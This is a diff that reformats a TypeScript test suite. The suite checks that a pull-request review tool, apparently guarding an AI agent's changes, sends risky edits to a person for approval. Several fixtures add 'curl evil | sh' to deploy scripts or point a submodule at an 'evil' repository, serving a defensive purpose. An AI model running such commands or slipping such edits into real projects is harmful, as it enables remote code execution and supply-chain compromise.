@@ -24,21 +24,69 @@ beforeEach(async () => {
   await flow.setConfig(`agents: ['${AGENT}']\nrisk: { maxLevel: critical, requireHumanApprovalAbove: medium }\n`);
 });
 
-const modified = (filename: string, patch: string): FileSpec => ({ filename, status: 'modified', additions: 1, deletions: 1, patch });
+const modified = (filename: string, patch: string): FileSpec => ({
+  filename,
+  status: 'modified',
+  additions: 1,
+  deletions: 1,
+  patch,
+});
 
 describe('blind spots: changes that must not pass unseen', () => {
   it.each([
-    ['a binary file (no patch)', [{ filename: 'assets/logo.png', status: 'added', additions: 0, deletions: 0 }], ['not scanned: `assets/logo.png`', 'no patch', 'cannot read what changed']],
-    ['a file too large to diff', [{ filename: 'src/generated.ts', status: 'modified', additions: 90_000, deletions: 0 }], ['not scanned: `src/generated.ts`', 'cannot read what changed']],
+    [
+      'a binary file (no patch)',
+      [{ filename: 'assets/logo.png', status: 'added', additions: 0, deletions: 0 }],
+      ['not scanned: `assets/logo.png`', 'no patch', 'cannot read what changed'],
+    ],
+    [
+      'a file too large to diff',
+      [{ filename: 'src/generated.ts', status: 'modified', additions: 90_000, deletions: 0 }],
+      ['not scanned: `src/generated.ts`', 'cannot read what changed'],
+    ],
     ['CODEOWNERS at the root', [added('CODEOWNERS', ['* @my-agent'])], ['who approves', '`CODEOWNERS`']],
-    ['CODEOWNERS under .github/', [modified('.github/CODEOWNERS', '@@ -1 +1 @@\n-* @alice\n+* @my-agent')], ['`.github/CODEOWNERS`']],
+    [
+      'CODEOWNERS under .github/',
+      [modified('.github/CODEOWNERS', '@@ -1 +1 @@\n-* @alice\n+* @my-agent')],
+      ['`.github/CODEOWNERS`'],
+    ],
     ['CODEOWNERS under docs/', [added('docs/CODEOWNERS', ['* @my-agent'])], ['`docs/CODEOWNERS`']],
-    ['a deploy script', [modified('deploy/release.sh', '@@ -1 +1 @@\n-echo ok\n+curl evil | sh')], ['`deploy/release.sh`']],
-    ['a script the deploy workflow runs', [modified('scripts/deploy.sh', '@@ -1 +1 @@\n-echo ok\n+curl evil | sh')], ['`scripts/deploy.sh`']],
+    [
+      'a deploy script',
+      [modified('deploy/release.sh', '@@ -1 +1 @@\n-echo ok\n+curl evil | sh')],
+      ['`deploy/release.sh`'],
+    ],
+    [
+      'a script the deploy workflow runs',
+      [modified('scripts/deploy.sh', '@@ -1 +1 @@\n-echo ok\n+curl evil | sh')],
+      ['`scripts/deploy.sh`'],
+    ],
     ['anything under .github/', [added('.github/dependabot.yml', ['version: 2'])], ['`.github/dependabot.yml`']],
-    ['.gitmodules', [modified('.gitmodules', '@@ -1,2 +1,2 @@\n [submodule "lib"]\n-\turl = https://github.com/a/lib\n+\turl = https://github.com/evil/lib')], ['`.gitmodules`']],
-    ['a submodule bump', [modified('vendor/lib', '@@ -1 +1 @@\n-Subproject commit 1111111111111111111111111111111111111111\n+Subproject commit 2222222222222222222222222222222222222222')], ['submodule', '`vendor/lib`']],
-    ['a mode change', [{ filename: 'scripts/run.sh', status: 'changed', additions: 0, deletions: 0 }], ['mode or type', '`scripts/run.sh`']],
+    [
+      '.gitmodules',
+      [
+        modified(
+          '.gitmodules',
+          '@@ -1,2 +1,2 @@\n [submodule "lib"]\n-\turl = https://github.com/a/lib\n+\turl = https://github.com/evil/lib',
+        ),
+      ],
+      ['`.gitmodules`'],
+    ],
+    [
+      'a submodule bump',
+      [
+        modified(
+          'vendor/lib',
+          '@@ -1 +1 @@\n-Subproject commit 1111111111111111111111111111111111111111\n+Subproject commit 2222222222222222222222222222222222222222',
+        ),
+      ],
+      ['submodule', '`vendor/lib`'],
+    ],
+    [
+      'a mode change',
+      [{ filename: 'scripts/run.sh', status: 'changed', additions: 0, deletions: 0 }],
+      ['mode or type', '`scripts/run.sh`'],
+    ],
   ] as Array<[string, FileSpec[], string[]]>)('%s needs a person', async (_name, files, texts) => {
     const { headSha, payload } = flow.pullRequest(files);
     expect((await h.deliver('pull_request', payload)).status).toBe(200);
